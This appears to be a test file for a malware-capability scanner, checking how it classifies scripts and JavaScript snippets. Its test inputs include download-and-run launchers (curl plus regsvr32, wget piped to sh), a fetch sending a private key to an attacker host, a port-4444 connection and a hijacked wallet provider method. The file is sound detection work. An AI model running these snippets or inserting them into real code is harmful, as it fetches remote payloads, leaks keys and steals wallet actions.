/**
 * The capability kinds the evaluation cases needed: scripts read as code, literal IPv4 addresses as
 * hosts, a host paired with key material, machine facts or a started program, wallet provider hooks.
 */
import { jsCapabilities } from '../../src/content/capabilities-js.js';
import { scriptCapabilities } from '../../src/content/capabilities-sh.js';
import { isPublicIpv4 } from '../../src/content/terms.js';

const kinds = (caps: Map<string, number[]>) => [...caps.keys()];

describe('capability kinds', () => {
  it('reads a batch or shell launcher: a download from a literal address, then a program started', () => {
    const bat = scriptCapabilities('@echo off\ncurl https://198.51.100.23/sdd.dll -o %TEMP%\\sdd.dll\nregsvr32.exe -s %TEMP%\\sdd.dll\n');
    expect(kinds(bat)).toEqual(expect.arrayContaining(['network', 'process-exec', 'host:198.51.100.23', 'download-exec']));
    const sh = scriptCapabilities('#!/bin/sh\nwget -qO- http://drop.attacker.example/x | sh\n');
    expect(kinds(sh)).toEqual(expect.arrayContaining(['network', 'process-exec', 'host:drop.attacker.example', 'download-exec']));
    expect(kinds(scriptCapabilities('#!/bin/sh\nnode-gyp rebuild\necho done\n'))).toEqual([]);
  });

  it('takes a string that is exactly a routable IPv4 address for a host, never a private one', () => {
    expect(isPublicIpv4('203.0.113.50')).toBe(true);
    for (const quiet of ['127.0.0.1', '10.1.2.3', '192.168.0.1', '172.20.0.1', '0.0.0.0', '255.255.255.255', '1.2.3', '300.1.1.1', 'v1.2.3.4'])
      expect(isPublicIpv4(quiet)).toBe(false);
    expect(kinds(jsCapabilities("require('net').connect(4444, '203.0.113.50');"))).toContain('host:203.0.113.50');
  });

  it('pairs a literal host with key material, machine facts and a started program', () => {
    expect(kinds(jsCapabilities('fetch("https://x.attacker.example/k", { body: privateKey });'))).toContain('secret-to-host');
    expect(kinds(jsCapabilities("const t = os.hostname();\nnet.connect(53, '203.0.113.9');"))).toContain('recon-to-host');
    expect(kinds(jsCapabilities("get('http://203.0.113.17/m');\nrequire('child_process').spawn('/tmp/m');"))).toEqual(
      expect.arrayContaining(['download-exec']),
    );
    expect(kinds(jsCapabilities('fetch(url, { body: privateKey });'))).not.toContain('secret-to-host');
  });

  it('sees a wallet provider method replaced as a browser hook, not a read of it', () => {
    expect(kinds(jsCapabilities('window.ethereum.request = (a) => send(a);'))).toContain('browser-hook');
    expect(kinds(jsCapabilities('if (window.ethereum.request === undefined) return;'))).not.toContain('browser-hook');
  });
});
